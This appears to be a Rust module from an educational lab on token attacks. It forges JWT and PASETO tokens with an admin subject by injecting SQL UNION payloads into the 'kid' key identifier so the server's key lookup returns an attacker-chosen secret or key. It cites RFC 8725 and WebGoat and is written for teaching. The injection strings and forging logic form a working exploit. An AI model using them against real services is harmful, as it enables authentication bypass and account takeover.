//! SQL injection through `kid`: the attacker has the database answer with a
//! key of her choice.
//!
//! The flawed assumption: a key's name is a name. It is text that nothing has
//! authenticated, because it is what leads to the key. RFC 8725 §2.9 and §3.10
//! demand that it is treated so. No library CVE is known to this lab: the bug
//! is the application's, and WebGoat teaches it in a lesson of its own.
//!
//! PASETO has no header to put a `kid` into, but a footer that is used for it,
//! and the specification warns that the footer is unauthenticated until the
//! token is verified (Payload-Processing, Key-ID Support). The attack carries
//! over unchanged.

use serde_json::Value;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::{AttackerView, footer_with_kid};
use crate::card::AttackProfile;
use crate::hs::Hs;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct KidInjection;

static PROFILE: AttackProfile = AttackProfile {
    id: "kid-injection",
    title: "SQL injection through the key's name",
    assumption: "A key's name can be put into a query, since it is only a name.",
    breaks: &[Weakness::KidInSql],
    references: &[
        (
            "RFC 8725 §2.9",
            "Received claims and header values reach other systems before they are trusted.",
        ),
        (
            "RFC 8725 §3.10",
            "An application that uses kid for a lookup makes sure that no injection is possible.",
        ),
        ("RFC 7515 §4.1.4", "kid is a hint of unspecified structure."),
        (
            "WebGoat issue 1538",
            "The lesson on kid is an SQL injection: the bug is an application's, not a library's.",
        ),
        (
            "PASETO, Payload-Processing, Key-ID Support",
            "The footer may name a key, and is unauthenticated until the token is verified.",
        ),
    ],
    lesson: include_str!("../../lessons/kid-injection.md"),
};

/// A secret that reads well in a statement on a projector.
const WORD: &str = "mallory was here";

impl Attack for KidInjection {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        notes.step(
            "Guesses the statement behind the lookup: SELECT a key FROM a table WHERE kid = '...'.",
            "",
        );
        let mut forgeries = Vec::new();
        if let Scheme::Jwt(algorithm) = view.scheme() {
            let hs = Hs::of(algorithm).unwrap_or(Hs::S256);
            for (variant, kid) in [
                ("union-word", format!("' UNION SELECT '{WORD}' -- ")),
                (
                    "union-word-no-comment",
                    format!("' UNION SELECT '{WORD}' WHERE '1'='1"),
                ),
            ] {
                forgeries.push(word(view, hs, variant, &kid, notes)?);
            }
        }
        forgeries.push(own_key(view, notes)?);
        Ok(forgeries)
    }
}

/// The statement returns a word, and the token is an HMAC under that word.
fn word(
    view: &AttackerView<'_>,
    hs: Hs,
    variant: &str,
    kid: &str,
    notes: &mut Notebook,
) -> Result<Forgery, CannotForge> {
    let mut header = view.header_with_kid(kid);
    header.insert("alg".into(), hs.name().into());
    notes.variant_step(
        variant,
        format!("Names a key that closes the quote and selects a word of her own: {WORD}."),
        Value::Object(header.clone()).to_string(),
    );
    notes.variant_step(
        variant,
        "Signs the claims, in which the subject is admin, with that word as the secret.",
        mint::jwt_payload(view.wanted())?,
    );
    let token = mint::jws(&header, view.wanted(), &Signature::Tag(hs, WORD.into()))?;
    Ok(Forgery::new(variant, token))
}

/// The statement returns a key of the kind that the target uses, bytes and all.
fn own_key(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "union-own-key";
    let key = mint::hexadecimal(&view.own_key());
    let kid = format!("' UNION SELECT x'{key}' -- ");
    notes.variant_step(
        variant,
        "Names a key that closes the quote and selects the bytes of a key of her own.",
        kid.as_str(),
    );
    notes.variant_step(
        variant,
        format!(
            "Makes a {} token with that key, in which the subject is admin.",
            view.scheme()
        ),
        "",
    );
    let token = view.token_by_own_key(&kid)?;
    Ok(match view.scheme() {
        Scheme::Jwt(_) => Forgery::new(variant, token),
        Scheme::Paseto(..) => Forgery::analogue(
            variant,
            token,
            format!(
                "PASETO has no kid header; the footer names the key instead: {:.40}...",
                footer_with_kid(&kid)
            ),
        ),
    })
}
